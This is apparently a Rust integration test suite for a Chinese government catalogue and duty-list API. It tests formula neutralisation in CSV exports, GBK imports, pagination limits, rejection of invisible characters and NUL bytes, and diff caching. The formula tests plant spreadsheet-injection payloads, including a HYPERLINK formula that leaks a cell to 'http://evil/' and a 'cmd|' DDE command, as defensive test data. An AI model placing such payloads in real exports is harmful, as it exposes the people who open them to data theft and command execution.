//! Hostile and careless input: exports that a spreadsheet would run as formulas, CSV from
//! Chinese Windows, impossible pages, invisible characters, wildcards and NUL in searches,
//! over-long addresses.

use reqwest::blocking::Response;
use reqwest::Method;
use serde_json::Value;

use crate::common::*;

/// What a spreadsheet runs when a cell starts with it.
const FORMULA_STARTS: [&str; 6] = ["=", "+", "-", "@", "\t", "\r"];

/// Every cell of a CSV export, after its BOM.
fn cells(response: Response) -> Vec<Vec<String>> {
    assert_eq!(response.status(), 200);
    let bytes = response.bytes().unwrap();
    let text = std::str::from_utf8(&bytes).unwrap();
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// No cell of the export starts a formula, and each planted text is there, neutralised
/// (text starting with a tab or a carriage return is trimmed when stored, so only the
/// other starts can be looked for).
fn assert_neutralised(what: &str, rows: &[Vec<String>], planted: &[String]) {
    for cell in rows.iter().flatten() {
        assert!(
            !FORMULA_STARTS.iter().any(|p| cell.starts_with(p)),
            "{what}: a live formula {cell:?}"
        );
    }
    for text in planted.iter().filter(|t| !t.starts_with(['\t', '\r'])) {
        let neutral = format!("'{text}");
        assert!(
            rows.iter().flatten().any(|c| c.starts_with(&neutral)),
            "{what}: {neutral:?} is not in the export"
        );
    }
}

#[test]
fn catalogue_exports_neutralise_every_formula_in_every_free_text_column() {
    let app = TestApp::with_demo();
    draft(&app, "h1");
    let mut planted = Vec::new();
    for (i, start) in FORMULA_STARTS.iter().enumerate() {
        // Names and domains are one line: no tab or carriage return in them.
        let one_line = if start.trim().is_empty() { "=" } else { start };
        let mut body = item(
            &format!("CF-90{i:02}"),
            &format!("{one_line}HYPERLINK(\"http://x/?q=\"&A1,\"点击查看\")"),
        );
        body["domain"] = json!(format!("{one_line}市容环境"));
        body["legal_basis"][0]["law"] = json!(format!("{start}《城市市容和环境卫生管理条例》"));
        body["responsibilities"][0]["stage"] = json!(format!("{start}受理"));
        body["accountability"] = json!([format!("{start}SUM(1+1)不依法履行职责的")]);
        body["service_guide"] = json!(format!("{start}cmd|' /C calc'!A0"));
        planted.push(format!("{one_line}HYPERLINK"));
        planted.push(format!("{one_line}市容环境"));
        planted.push(format!("{start}《城市市容"));
        planted.push(format!("{start}受理"));
        planted.push(format!("{start}SUM(1+1)"));
        planted.push(format!("{start}cmd|"));
        expect_json(
            app.post("/api/v1/catalogue/editions/h1/items", &app.admin(), &body),
            201,
        );
    }
    let exported = cells(app.get_as(
        "/api/v1/catalogue/editions/h1/export?format=csv",
        &app.admin(),
    ));
    assert_neutralised("the draft's export", &exported, &planted);
    // The item as stored keeps the text as typed.
    let stored = expect_json(
        app.get_as("/api/v1/catalogue/editions/h1/items/CF-9000", &app.admin()),
        200,
    );
    assert!(stored["name"].as_str().unwrap().starts_with("=HYPERLINK"));

    let etag = app.etag("/api/v1/catalogue/editions/h1", &app.admin());
    expect_json(
        app.send(
            Method::POST,
            "/api/v1/catalogue/editions/h1/publish",
            &app.admin(),
            Some(&etag),
            &json!({}),
        ),
        200,
    );
    let public = cells(app.get("/public/v1/catalogue/editions/h1/export?format=csv"));
    assert_neutralised("the public export", &public, &planted);
}

#[test]
fn claims_and_duty_list_exports_neutralise_what_clerks_and_compilers_typed() {
    let app = TestApp::with_demo();
    let compiler = app.token(&["county_compiler"], LUXIAN, "luxian-gov");
    let (round, claims) = demo_round_claims(&app, YUCHAN);
    let mut answers = Vec::new();
    let mut planted = Vec::new();
    for (claim, start) in claims.iter().zip(FORMULA_STARTS) {
        let reason = format!("{start}HYPERLINK(\"http://evil/?\"&A1,\"点击查看\")");
        planted.push(reason.clone());
        answers.push(json!({"item": claim["item"], "answer": "decline", "reason": reason, "revision": claim["revision"]}));
    }
    expect_json(
        app.post(
            &format!("/api/v1/claim-rounds/{round}/answers"),
            &app.clerk(YUCHAN),
            &json!({"township": YUCHAN, "answers": answers}),
        ),
        200,
    );
    let exported = cells(app.get_as(&format!("/api/v1/claim-rounds/{round}/export"), &compiler));
    assert_neutralised("the claims export", &exported, &planted);

    let mut planted = Vec::new();
    for (i, start) in FORMULA_STARTS.iter().enumerate() {
        let one_line = if start.trim().is_empty() { "@" } else { start };
        let matter = json!({
            "code": format!("SD-9{i:02}"),
            "name": format!("{one_line}SUM(1+1)监管{i}"),
            "domain": format!("{one_line}生态环境"),
            "legal_basis": [{"law": format!("{start}《中华人民共和国大气污染防治法》"), "article": "第一百一十八条", "excerpt": "责令改正"}],
            "lead": {"department": "luxian-sthj", "duties": [format!("{start}依法查处")]},
            "supporters": [{"department": "luxian-scjg", "duties": [format!("{start}配合调查")]}],
            "township_duties": [format!("{start}1+1")],
            "one_matter": false,
            "lead_response_minutes": 30,
            "support_arrival_minutes": null,
            "notes": format!("{start}备注")
        });
        planted.extend([
            format!("{one_line}SUM(1+1)监管"),
            format!("{start}依法查处"),
            format!("{start}1+1"),
            format!("{start}备注"),
        ]);
        expect_json(
            app.post(
                &format!("/api/v1/counties/{LUXIAN}/duty-list/matters"),
                &compiler,
                &matter,
            ),
            201,
        );
    }
    let exported = cells(app.get_as(
        &format!("/api/v1/counties/{LUXIAN}/duty-list/export?format=csv"),
        &compiler,
    ));
    assert_neutralised("the duty list export", &exported, &planted);
}

#[test]
fn a_gbk_csv_from_chinese_windows_imports_the_same_as_its_utf8_twin() {
    let app = TestApp::with_demo();
    let utf8 = app
        .get("/public/v1/catalogue/editions/2026/export?format=csv")
        .bytes()
        .unwrap();
    let text = std::str::from_utf8(&utf8).unwrap();
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    let (gbk, _, unmappable) = encoding_rs::GB18030.encode(text);
    assert!(!unmappable);
    assert!(std::str::from_utf8(&gbk).is_err(), "the twin is not UTF-8");
    let import = |edition: &str, bytes: Vec<u8>| {
        let etag = draft(&app, edition);
        let response = app
            .request(
                Method::POST,
                &format!("/api/v1/catalogue/editions/{edition}/import"),
                Some(&app.admin()),
            )
            .header("Content-Type", "text/csv")
            .header("If-Match", etag)
            .body(bytes)
            .send()
            .unwrap();
        expect_json(response, 200);
        expect_json(
            app.get_as(
                &format!("/api/v1/catalogue/editions/{edition}/export"),
                &app.admin(),
            ),
            200,
        )["items"]
            .clone()
    };
    let from_utf8 = import("u8", text.as_bytes().to_vec());
    let from_gbk = import("gbk", gbk.into_owned());
    assert!(from_utf8.as_array().unwrap().len() > 10);
    assert_eq!(from_gbk, from_utf8);
    // Bytes that are neither are refused, saying so.
    let etag = draft(&app, "bad");
    let response = app
        .request(
            Method::POST,
            "/api/v1/catalogue/editions/bad/import",
            Some(&app.admin()),
        )
        .header("Content-Type", "text/csv")
        .header("If-Match", etag)
        .body(vec![0x81, 0x20, 0xFF, 0xFE, 0x00])
        .send()
        .unwrap();
    let problem = expect_problem(response, 400);
    assert!(
        problem["detail"].as_str().unwrap().contains("problem"),
        "{problem}"
    );
}

#[test]
fn impossible_pages_are_refused_and_pages_past_the_end_are_empty() {
    let app = TestApp::with_demo();
    let auditor = app.token_for("auditor", PROVINCE);
    for (path, token) in [
        ("/public/v1/catalogue/editions/2026/items", None),
        ("/api/v1/audit", Some(auditor.as_str())),
        ("/api/v1/organisations", Some(auditor.as_str())),
    ] {
        let get = |query: &str| {
            app.request(Method::GET, &format!("{path}?{query}"), token)
                .send()
                .unwrap()
        };
        let problem = expect_problem(get("page=9223372036854775807&page_size=50"), 422);
        assert_eq!(error_fields(&problem), ["page"], "{path}");
        let total = expect_json(get("page=1&page_size=1"), 200)["total"].clone();
        let past = expect_json(get("page=100000&page_size=500"), 200);
        assert_eq!(past["items"], json!([]), "{path}");
        assert_eq!(past["total"], total, "{path}");
        // The contract's bound, on both sides.
        let last_possible = expect_json(get("page=1000000000&page_size=500"), 200);
        assert_eq!(last_possible["items"], json!([]));
        let problem = expect_problem(get("page=1000000001&page_size=1"), 422);
        assert_eq!(error_fields(&problem), ["page"], "{path}");
    }
}

#[test]
fn invisible_characters_are_refused_in_names_codes_and_titles() {
    let app = TestApp::with_demo();
    let admin = app.admin();
    let compiler = app.token(&["county_compiler"], LUXIAN, "luxian-gov");
    for invisible in ['\u{200B}', '\u{202E}', '\u{FEFF}', '\u{00A0}', '\u{0000}'] {
        let twin = format!("泸县自然资源和规划局{invisible}");
        let cases: [(&str, &str, Value, &str); 6] = [
            (
                "/api/v1/organisations",
                admin.as_str(),
                json!({"code": "luxian-zrzy2", "name": twin, "kind": "department", "sector": "natural_resources", "region": LUXIAN}),
                "name",
            ),
            (
                "/api/v1/organisations",
                admin.as_str(),
                json!({"code": format!("luxian{invisible}zrzy"), "name": "泸县另一个局", "kind": "department", "sector": "natural_resources", "region": LUXIAN}),
                "code",
            ),
            (
                "/api/v1/catalogue/editions",
                admin.as_str(),
                json!({"code": "2030", "title": format!("目录{invisible}")}),
                "title",
            ),
            (
                "/api/v1/catalogue/editions/2026/copy",
                admin.as_str(),
                json!({"code": "2031", "title": format!("{invisible}目录")}),
                "title",
            ),
            (
                &format!("/api/v1/counties/{LUXIAN}/claim-rounds"),
                compiler.as_str(),
                json!({"edition": "2026", "title": format!("认领{invisible}"), "deadline": "2099-12-31"}),
                "title",
            ),
            (
                &format!("/api/v1/counties/{LUXIAN}/lists/duty/versions"),
                compiler.as_str(),
                json!({"title": format!("清单{invisible}"), "change_summary": "x"}),
                "title",
            ),
        ];
        for (path, token, body, field) in cases {
            let problem = expect_problem(app.post(path, token, &body), 422);
            assert_eq!(
                error_fields(&problem),
                [field],
                "U+{:04X} at {path}: {problem}",
                invisible as u32
            );
        }
    }
    // The same in a CSV import: the row and the column are named.
    let etag = draft(&app, "inv");
    let csv = "code,name,category,source,delegation_mode,sector,domain,legal_basis,responsibilities,accountability,time_limit_days,high_frequency,service_guide,parent_code\n\
               CF-0001,处罚\u{200B}一,02,delegable,direct,comprehensive_enforcement,市容环境,《条例》|第一条|摘录,受理|登记,不履行的,,否,,\n";
    let response = app
        .request(
            Method::POST,
            "/api/v1/catalogue/editions/inv/import",
            Some(&admin),
        )
        .header("Content-Type", "text/csv")
        .header("If-Match", etag)
        .body(csv)
        .send()
        .unwrap();
    let problem = expect_problem(response, 422);
    assert_eq!(problem["errors"][0]["field"], "name", "{problem}");
    assert_eq!(problem["errors"][0]["row"], 2, "{problem}");
    // Names are trimmed and composed: a decomposed name equals the composed one.
    let created = expect_json(
        app.post(
            "/api/v1/organisations",
            &admin,
            &json!({"code": "luxian-cafe", "name": "  Cafe\u{301} 泸县 ", "kind": "department", "sector": "other", "region": LUXIAN}),
        ),
        201,
    );
    assert_eq!(created["name"], "Caf\u{e9} 泸县");
}

#[test]
fn search_text_is_literal_and_nul_is_refused() {
    let app = TestApp::with_demo();
    let items = |q: &str| {
        expect_json(
            app.get(&format!("/public/v1/catalogue/editions/2026/items?q={q}")),
            200,
        )["total"]
            .as_i64()
            .unwrap()
    };
    assert!(items("") > 10);
    for wildcard in ["%25", "_", "%25%25", "%5C"] {
        assert_eq!(
            items(wildcard),
            0,
            "{wildcard} is a character, not a wildcard"
        );
    }
    let problem = expect_problem(
        app.get("/public/v1/catalogue/editions/2026/items?q=%00zzz"),
        422,
    );
    assert_eq!(error_fields(&problem), ["q"]);
    let problem = expect_problem(
        app.get(&format!("/public/v1/lookup?township={YUCHAN}&q=%00")),
        422,
    );
    assert_eq!(error_fields(&problem), ["q"]);
}

#[test]
fn an_over_long_address_is_a_problem_too() {
    let app = TestApp::with_demo();
    let long = format!("/public/v1/catalogue/editions?x={}", "a".repeat(10_000));
    let problem = expect_problem(app.get(&long), 414);
    assert!(problem["detail"].as_str().unwrap().contains("8192"));
    // Everything else the framework refuses is a problem as well.
    expect_problem(
        app.get("/public/v1/catalogue/editions/2026/items?page=x"),
        400,
    );
    expect_problem(app.get("/no/such/route"), 404);
    let response = app
        .request(Method::POST, "/api/v1/organisations", Some(&app.admin()))
        .header("Content-Type", "application/json")
        .body("{not json")
        .send()
        .unwrap();
    expect_problem(response, 400);
}

#[test]
fn a_diff_of_published_editions_is_made_once_and_revalidates() {
    let app = TestApp::with_demo();
    let admin = app.admin();
    expect_json(
        app.post(
            "/api/v1/catalogue/editions/2026/copy",
            &admin,
            &json!({"code": "2027", "title": "2027年版"}),
        ),
        201,
    );
    let mut changed = item("CF-0001", "改过的名称");
    changed["domain"] = json!("市容环境");
    let etag = app.etag("/api/v1/catalogue/editions/2027/items/CF-0001", &admin);
    let response = app.send(
        Method::PUT,
        "/api/v1/catalogue/editions/2027/items/CF-0001",
        &admin,
        Some(&etag),
        &changed,
    );
    assert!(
        response.status().is_success(),
        "{}",
        response.text().unwrap()
    );
    // With a draft, the diff is made for each request and not cached.
    let draft_diff = app.get_as("/api/v1/catalogue/diff?from=2026&to=2027", &admin);
    assert_eq!(draft_diff.status(), 200);
    assert!(draft_diff.headers().get("etag").is_none());
    let etag = app.etag("/api/v1/catalogue/editions/2027", &admin);
    expect_json(
        app.send(
            Method::POST,
            "/api/v1/catalogue/editions/2027/publish",
            &admin,
            Some(&etag),
            &json!({}),
        ),
        200,
    );
    let path = "/public/v1/catalogue/diff?from=2026&to=2027";
    let first = app.get(path);
    assert_eq!(first.status(), 200);
    let etag = first.headers()["etag"].to_str().unwrap().to_string();
    assert!(first.headers()["cache-control"]
        .to_str()
        .unwrap()
        .contains("immutable"));
    let body: Value = first.json().unwrap();
    assert_eq!(body["changed"][0]["code"], "CF-0001", "{body}");
    let again = app.get(path);
    assert_eq!(again.headers()["etag"].to_str().unwrap(), etag);
    assert_eq!(again.json::<Value>().unwrap(), body);
    let revalidated = app
        .request(Method::GET, path, None)
        .header("If-None-Match", &etag)
        .send()
        .unwrap();
    assert_eq!(revalidated.status(), 304);
    // The authenticated route shares the same answer once both are published.
    let shared = app.get_as("/api/v1/catalogue/diff?from=2026&to=2027", &admin);
    assert_eq!(shared.headers()["etag"].to_str().unwrap(), etag);
    // Unknown editions are still a 404, and are not kept.
    expect_problem(app.get("/public/v1/catalogue/diff?from=2026&to=2099"), 404);
}
